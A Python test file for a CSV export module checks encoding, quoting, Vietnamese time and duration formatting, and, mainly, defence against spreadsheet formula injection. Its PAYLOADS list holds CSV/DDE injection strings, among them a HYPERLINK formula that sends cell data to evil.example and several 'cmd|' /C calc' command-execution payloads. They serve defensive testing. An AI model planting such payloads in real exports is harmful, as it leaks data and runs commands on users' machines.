"""A table as CSV: bytes as they must be, and nothing in it that a spreadsheet computes."""

from __future__ import annotations

import csv
import io
import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coordinator.reports.table import BOM, STARTS_FORMULA, clock, plain, seconds, table, words

HOSTILE_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
PAYLOADS = (
    '=HYPERLINK("http://evil.example?x="&A1,"Bấm")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"=1+1',
    "',=1",
    "\r\n=1+1",
    "=1\r\n=2",
    "＝1+1",
    '";=1+1;"',
    "\t=1",
    "\0=1",
)


def read(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_the_bytes() -> None:
    text = table(("STT", "Họ và tên"), [(1, "Đại biểu mẫu 07 – Cao Bằng"), (2, None)])
    assert text.encode() == (
        b"\xef\xbb\xbf"
        + '"STT","Họ và tên"\r\n"1","Đại biểu mẫu 07 – Cao Bằng"\r\n"2",""\r\n'.encode()
    )


def test_quotes_and_line_breaks_stay_inside_their_cell() -> None:
    text = table(("a", "b"), [('nói "được"', "hai\ndòng"), ("x,y;z", "")])
    assert '"nói ""được"""' in text
    assert read(text) == [["a", "b"], ['nói "được"', "hai\ndòng"], ["x,y;z", ""]]


def test_five_thousand_hostile_names_and_no_cell_begins_a_formula() -> None:
    draw = random.Random(8_9_2023)
    alphabet = "=+-@\t\r\n\0＝＋－＠\"',;|!()' Aậđ1\u202e\ufeff"
    names = [*PAYLOADS, *(f"{start}1+1" for start in HOSTILE_STARTS)]
    while len(names) < 5_000:
        names.append("".join(draw.choices(alphabet, k=draw.randint(1, 40))))
    rows = read(table(("Tên",), [(name,) for name in names]))
    assert len(rows) == 5_001
    for name, (cell,) in zip(names, rows[1:], strict=True):
        assert not cell or cell[0] not in STARTS_FORMULA
        assert cell in (name, f"'{name}")


@given(st.lists(st.text(min_size=0, max_size=30), min_size=1, max_size=5))
def test_whatever_people_write_comes_back_and_computes_nothing(names: list[str]) -> None:
    head = tuple(f"c{number}" for number in range(len(names)))
    rows = read(table(head, [names]))
    assert len(rows) == 2
    for name, cell in zip(names, rows[1], strict=True):
        assert cell[:1] not in STARTS_FORMULA or not cell
        assert cell.removeprefix("'") == name.removeprefix("'")


@pytest.mark.parametrize("start", HOSTILE_STARTS)
def test_the_guard(start: str) -> None:
    assert plain(f"{start}x") == f"'{start}x"
    assert plain(f"x{start}") == f"x{start}"


def test_a_row_of_another_width_is_our_own_fault() -> None:
    with pytest.raises(AssertionError):
        table(("a", "b"), [(1,)])


def test_instants_in_vietnam() -> None:
    assert clock(1_694_106_000_000) == "08/09/2023 00:00:00"
    assert clock(1_694_138_399_999) == "08/09/2023 08:59:59"
    assert clock(None) == ""


@pytest.mark.parametrize(
    ("length_ms", "said", "in_seconds"),
    [
        (432_000, "7 phút 12 giây", 432),
        (0, "0 giây", 0),
        (499, "0 giây", 0),
        (500, "1 giây", 1),
        (60_000, "1 phút", 60),
        (3_600_000, "1 giờ", 3_600),
        (3_725_400, "1 giờ 2 phút 5 giây", 3_725),
        (3_605_000, "1 giờ 5 giây", 3_605),
        (59_999, "1 phút", 60),
    ],
)
def test_lengths_in_words(length_ms: int, said: str, in_seconds: int) -> None:
    assert words(length_ms) == said
    assert seconds(length_ms) == in_seconds
